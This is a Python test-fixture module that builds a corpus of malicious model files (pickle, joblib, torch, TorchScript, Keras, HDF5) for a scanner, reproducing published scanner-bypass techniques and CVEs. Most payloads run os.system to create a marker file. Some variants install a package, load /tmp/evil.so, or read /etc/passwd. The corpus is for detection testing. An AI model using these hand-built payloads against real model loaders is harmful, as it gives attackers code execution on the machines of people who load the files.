"""Malicious model files by technique, from published scanner-bypass research; every payload only creates
a marker file. Built by dumping (``__reduce__``'s callable is recorded, never called), by writing opcodes
by hand, or by editing a real library's file; none is ever loaded here.

Sources, by the ``source`` field of each variant:
- jfrog: JFrog's model-scanning research (Keras Lambda and ``__lambda__`` activations, CVE-2025-1550 module
  imports, CVE-2025-8747 ``keras.utils.get_file``, CVE-2025-9906 ``enable_unsafe_deserialization``).
- fickling: Trail of Bits' fickling and "Never a dill moment" (stacked pickles, payload in a legit file's
  tail, overwritten classes, non-standard imports).
- sonatype: Sonatype's picklescan bypasses (compressed pickles, ``pip.main``-style CVE-2025-1716, torch
  archives with a second pickle).
- picklescan-ghsa / modelscan-ghsa: their advisories (stdlib gadgets missing from deny-lists: ``asyncio``
  subprocess transport, ``idlelib``, ``cProfile.runctx``, ``timeit``, ``numpy.f2py`` ``myeval``,
  ``torch._inductor`` compile helpers; BUILD on a class; memo-indirected names).
- format: abuses of a real layout this project parses (TorchScript ``code/``, joblib inline arrays, legacy
  torch storages, numpy.random constructors given a callable).
"""

from __future__ import annotations

import base64
import bz2
import io
import json
import lzma
import pickle
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np

MARKER = "modelshield_corpus_marker"


@dataclass(frozen=True)
class Variant:
    body: bytes
    technique: str
    source: str


def _global_call(module: str, name: str, *args: Any, protocol: int = 4) -> bytes:
    """A pickle calling ``module.name(*args)``, written opcode by opcode (the target is never imported)."""
    body = b"\x80" + bytes([protocol]) if protocol >= 2 else b""
    body += f"c{module}\n{name}\n".encode()
    body += pickle.dumps(tuple(args), protocol=min(protocol, 2))[2 if protocol >= 2 else 0 : -1]
    return body + b"R."


def _unicode(text: str) -> bytes:
    raw = text.encode()
    return b"X" + len(raw).to_bytes(4, "little") + raw


def _cmd(tmp: Path) -> str:
    return f"touch {tmp / MARKER}"


def _zip(entries: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, body in entries.items():
            zf.writestr(name, body)
    return buf.getvalue()


def _pickles(tmp: Path) -> dict[str, Variant]:
    cmd = _cmd(tmp)
    system = _global_call("os", "system", cmd)
    return {
        "ghsa_pip_main_cve_2025_1716": Variant(
            _global_call("pip", "main", ["install", "--quiet", "evil-package"]), "non-standard callable: pip.main",
            "sonatype"),
        "ghsa_pip_internal_main": Variant(
            _global_call("pip._internal.cli.main", "main", ["install", "evil"]), "non-standard callable: pip internals",
            "picklescan-ghsa"),
        "ghsa_asyncio_subprocess": Variant(
            _global_call("asyncio.unix_events", "_UnixSubprocessTransport", None, cmd), "stdlib gadget: asyncio",
            "picklescan-ghsa"),
        "ghsa_idlelib_runcode": Variant(
            _global_call("idlelib.pyshell", "ModifiedInterpreter", None), "stdlib gadget: idlelib", "picklescan-ghsa"),
        "ghsa_cprofile_runctx": Variant(
            _global_call("cProfile", "runctx", f"__import__('os').system({cmd!r})", {}, {}), "stdlib gadget: cProfile",
            "picklescan-ghsa"),
        "ghsa_timeit": Variant(
            _global_call("timeit", "timeit", f"__import__('os').system({cmd!r})", "pass", None, 1),
            "stdlib gadget: timeit", "picklescan-ghsa"),
        "ghsa_numpy_f2py_myeval": Variant(
            _global_call("numpy.f2py.crackfortran", "myeval", f"__import__('os').system({cmd!r})"),
            "library gadget: numpy.f2py eval", "picklescan-ghsa"),
        "ghsa_torch_inductor_compile": Variant(
            _global_call("torch._inductor.codecache", "compile_file", "/tmp/x.cpp", "/tmp/x.so", [cmd]),
            "library gadget: torch._inductor", "picklescan-ghsa"),
        "ghsa_pydoc_pipepager": Variant(
            _global_call("pydoc", "pipepager", "x", cmd), "stdlib gadget: pydoc.pipepager", "picklescan-ghsa"),
        "ghsa_uuid_command_stdout": Variant(
            _global_call("uuid", "_get_command_stdout", "sh", "-c", cmd), "stdlib gadget: uuid", "picklescan-ghsa"),
        "ghsa_ctypes_cdll": Variant(
            _global_call("ctypes", "CDLL", "/tmp/evil.so"), "native library load", "picklescan-ghsa"),
        "fickling_stacked_after_sklearn": Variant(
            pickle.dumps({"coef": [1.0, 2.0]}, 2) + system, "stacked pickle after a benign one", "fickling"),
        "fickling_build_overwrites_class": Variant(
            b"\x80\x02csklearn.pipeline\nPipeline\n}X\x07\x00\x00\x00predictcos\nsystem\nsb.",
            "BUILD on an allow-listed class", "fickling"),
        "fickling_protocol0_inst": Variant(
            f"(S'{cmd}'\nios\nsystem\n.".encode(), "INST opcode, protocol 0", "fickling"),
        "sonatype_bz2_pickle": Variant(bz2.compress(system), "compressed pickle (bz2)", "sonatype"),
        "sonatype_xz_pickle": Variant(lzma.compress(system), "compressed pickle (xz)", "sonatype"),
        "sonatype_lzma_alone_pickle": Variant(
            lzma.compress(system, format=lzma.FORMAT_ALONE), "compressed pickle (lzma)", "sonatype"),
        "format_randomstate_ctor_exec": Variant(
            b"\x80\x02cnumpy.random._pickle\n__randomstate_ctor\n" + _unicode(f"__import__('os').system({cmd!r})")
            + b"cbuiltins\nexec\n\x86R.", "numpy.random constructor handed exec as its bit-generator factory",
            "format"),
        "format_user_class_main": Variant(
            b"\x80\x02c__main__\nNet\n)\x81}b.", "user class from __main__ (torch.save of a whole user model)",
            "format"),
        "format_sklearn_function_transformer_system": Variant(
            b"\x80\x02csklearn.preprocessing._function_transformer\nFunctionTransformer\ncos\nsystem\n\x85R.",
            "allow-listed estimator holding a dangerous function", "format"),
        "format_torch_module_forward_hook_exec": Variant(
            b"\x80\x02ctorch.nn.modules.linear\nLinear\n)\x81}X\x0e\x00\x00\x00_forward_hooks"
            b"ccollections\nOrderedDict\n)R}K\x00cbuiltins\nexec\nsbsb.",
            "stock nn.Module with a hook set to exec", "format"),
    }  # fmt: skip


def _joblib(tmp: Path) -> dict[str, Variant]:
    import joblib

    system = _global_call("os", "system", _cmd(tmp))
    buf = io.BytesIO()
    joblib.dump({"w": np.arange(6.0)}, buf)
    real = buf.getvalue()
    after_array = real[:-2] + system[2:-1] + b"0u."  # the payload runs between the array bytes and SETITEMS
    objects = io.BytesIO()
    joblib.dump({"o": np.array([1, "x"], dtype=object)}, objects)
    tail = objects.getvalue()
    marker = tail.index(b"\x80\x05", 16)  # the object array's own pickle, written after its wrapper
    inner = _global_call("os", "system", _cmd(tmp), protocol=5)
    opcodes = f"os\nsystem\n(S'{_cmd(tmp)}'\ntR.".encode()  # with the byte "c" (99) that joblib reads as a length
    wide = io.BytesIO()  # array bytes at least as long as the opcodes, which may run past the 99 bytes of padding
    joblib.dump({"w": np.arange(float(len(opcodes)))}, wide)
    body = wide.getvalue()
    build = body.index(b"K\x10ub") + 4  # numpy_array_alignment_bytes=16, SETITEMS, BUILD: the padding byte next
    end = build + 1 + body[build] + 8 * len(opcodes)  # past the padding and the array
    padding = (b"c" + opcodes).ljust(1 + ord("c") + 8 * len(opcodes), b"\xff")  # joblib.load still reads it whole
    padded = body[:build] + padding + body[end:]
    return {
        "joblib_padding_read_as_opcodes": Variant(padded, "joblib padding that plain pickle.load runs as opcodes",
                                                  "format"),
        "joblib_payload_after_array_bytes": Variant(after_array, "payload after a NumpyArrayWrapper's raw array",
                                                    "format"),
        "joblib_object_array_payload": Variant(tail[:marker] + inner + b"u.", "object array pickle replaced", "format"),
        "joblib_payload_after_stop": Variant(real + system, "pickle appended after the joblib stream", "fickling"),
    }  # fmt: skip


def _torch(tmp: Path) -> dict[str, Variant]:
    import torch

    system = _global_call("os", "system", _cmd(tmp), protocol=2)
    legacy = io.BytesIO()
    torch.save({"w": torch.arange(4.0)}, legacy, _use_new_zipfile_serialization=False)
    raw = legacy.getvalue()
    magic_end = raw.index(b".") + 1
    script = io.BytesIO()
    torch.jit.save(torch.jit.script(torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.ReLU())), script)
    members = _unzip(script.getvalue())
    # torch mangles the file name when Sequential was scripted before in this process (container/___torch_mangle_N.py)
    code_name = next(n for n in members if "/code/__torch__/torch/nn/modules/container" in n and n.endswith(".py")
                     and b"class Sequential" in members[n])  # fmt: skip
    code = members[code_name].decode()

    def ts_code(extra: str) -> bytes:
        patched = code.replace("    return ", f"    {extra}\n    return ", 1)
        return _zip({**members, code_name: patched.encode()})

    return {
        "legacy_torch_payload_in_sys_info": Variant(raw[:magic_end] + system[:-1] + b"0" + raw[magic_end:],
                                                    "legacy torch: extra pickle in the header", "format"),
        "legacy_torch_payload_after_storages": Variant(raw + system, "legacy torch: pickle after the raw storages",
                                                       "format"),
        "torchscript_import_os": Variant(ts_code("_x = __import__(\"os\").system(\"true\")"),
                                         "TorchScript code reaching Python", "format"),
        "torchscript_from_file": Variant(ts_code("_x = torch.from_file(\"/etc/passwd\", False, 16)"),
                                         "TorchScript code reading files (aten::from_file)", "format"),
        "torchscript_save_op": Variant(ts_code("ops.aten.save(input, \"/tmp/evil\")"),
                                       "TorchScript code writing files (aten::save)", "format"),
        "torchscript_custom_op": Variant(ts_code("_x = ops.evil_ns.run(input)"),
                                         "TorchScript custom operator namespace", "format"),
        "pt2_weight_replaced_by_pickle": Variant(_exported_with(system), "torch.export .pt2 whose raw weight is a pickle",
                                                 "format"),
        "pt2_node_target_os_system": Variant(
            _exported_with(program=("torch.ops.aten.linear.default", "torch.serialization.os.system")),
            "torch.export node target walked from torch to os.system", "format"),
        "pt2_shape_expression_eval": Variant(
            _exported_with(program=("Symbol('s", f"__import__('os').system('{_cmd(tmp)}') or Symbol('s")),
            "torch.export shape expression run by sympy.sympify", "format"),
        "torchscript_data_pkl_system": Variant(
            _zip({**members, next(n for n in members if n.endswith("/data.pkl")): system}),
            "TorchScript archive whose data.pkl calls os.system", "sonatype"),
    }  # fmt: skip


def _exported_with(payload: bytes = b"", program: tuple[str, str] | None = None) -> bytes:
    """A real ``torch.export.save`` archive (a dynamic batch) with its first raw weight file replaced by
    ``payload``, or with ``program = (old, new)`` substituted once in its ``models/model.json``."""
    import torch

    buf = io.BytesIO()
    batch = torch.export.Dim("batch", min=2, max=64)
    exported = torch.export.export(torch.nn.Linear(2, 2), (torch.zeros(4, 2),), dynamic_shapes={"input": {0: batch}})
    torch.export.save(exported, buf)
    members = _unzip(buf.getvalue())
    if program is not None:
        name = next(n for n in members if n.endswith("/models/model.json"))
        assert program[0].encode() in members[name]
        return _zip({**members, name: members[name].replace(program[0].encode(), program[1].encode(), 1)})
    weight = next(n for n in members if "/data/weights/" in n and not n.endswith(".json"))
    return _zip({**members, weight: payload})


def _unzip(body: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(body)) as zf:
        return {n: zf.read(n) for n in zf.namelist()}


def _keras(tmp: Path) -> dict[str, Variant]:
    code = "4wEAAAAAAAAAAAAAAAIAAAADAAAA8wwAAACXAHwAZAF6BQAAUwApAk7pAgAAAKkAqQHaAXRzAQAAACD6"

    def layer(class_name: str, module: str = "keras.layers", registered: str | None = None, **config: Any) -> dict:
        return {"module": module, "class_name": class_name, "config": {"name": "l", **config},
                "registered_name": registered}  # fmt: skip

    def model(*layers: dict[str, Any]) -> bytes:
        config = {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": list(layers)}}
        return _zip({"metadata.json": b'{"keras_version": "3.15.1"}', "config.json": json.dumps(config).encode()})

    function = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function"}
    return {
        "keras_lambda_activation_marshal": Variant(model(layer("Dense", units=2, activation={"value": [code, None, None]})),
                                                   "marshalled lambda as an activation (no class name)", "jfrog"),
        "keras_nested_functional_lambda": Variant(
            model(layer("Functional", "keras.src.models.functional", layers=[layer("Lambda", function=code)])),
            "Lambda inside a nested model", "jfrog"),
        "keras_module_import_cve_2025_1550": Variant(
            model({"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}),
            "config imports os.system (CVE-2025-1550)", "jfrog"),
        "keras_get_file_cve_2025_8747": Variant(model(layer("Dense", units=2, kernel_initializer=function)),
                                                "keras.utils.get_file gadget (CVE-2025-8747)", "jfrog"),
        "keras_unsafe_deserialization_cve_2025_9906": Variant(
            model({"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization",
                   "registered_name": "function"}, layer("Lambda", function=code)),
            "enable_unsafe_deserialization then a Lambda (CVE-2025-9906)", "jfrog"),
        "keras_torch_module_wrapper": Variant(
            model(layer("TorchModuleWrapper", module=base64.b64encode(_global_call("os", "system", _cmd(tmp))).decode())),
            "TorchModuleWrapper holding a torch.save pickle", "jfrog"),
        "keras_custom_registered_object": Variant(model(layer("Evil", "evil_pkg.layers", "evil>Evil")),
                                                  "custom object from outside Keras", "jfrog"),
    }  # fmt: skip


def _hdf5(tmp: Path) -> dict[str, Variant]:
    import h5py

    config = {"class_name": "Sequential", "config": {"layers": [
        {"class_name": "Dense", "config": {"units": 2, "activation": {"class_name": "__lambda__", "config": {
            "code": "4wEAAAAAAAAAAAAAAAIAAAADAAAA8wwAAACXAHwAZAF6BQAAUwApAk7pAgAAAKkAqQHaAXRzAQAAACD6"}}}},
    ]}}  # fmt: skip
    out = {}
    for name, build in {
        "h5_legacy_lambda_activation": lambda f: f.attrs.__setitem__("model_config", json.dumps(config)),
        "h5_external_link": lambda f: f.__setitem__("weights", h5py.ExternalLink("/etc/passwd", "/")),
        "h5_external_storage": lambda f: f.create_dataset("w", (4,), "f4", external=[("/etc/passwd", 0, 16)]),
    }.items():
        buf = io.BytesIO()
        with h5py.File(buf, "w") as f:
            build(f)
        technique = {"h5_legacy_lambda_activation": "legacy h5 config with a __lambda__ activation",
                     "h5_external_link": "HDF5 external link out of the model",
                     "h5_external_storage": "HDF5 dataset stored in another file"}[name]  # fmt: skip
        out[name] = Variant(buf.getvalue(), technique, "jfrog" if "lambda" in name else "format")
    return out


def malicious(tmp: Path) -> dict[str, Variant]:
    """Every variant whose library is installed (h5py, joblib, torch are test dependencies)."""
    variants = _pickles(tmp) | _keras(tmp)
    for builder in (_joblib, _torch, _hdf5):
        variants |= builder(tmp)
    return variants


def write_malicious(folder: Path, tmp: Path) -> dict[str, Variant]:
    folder.mkdir(parents=True, exist_ok=True)
    variants = malicious(tmp)
    for name, variant in variants.items():
        (folder / name).write_bytes(variant.body)
    return variants
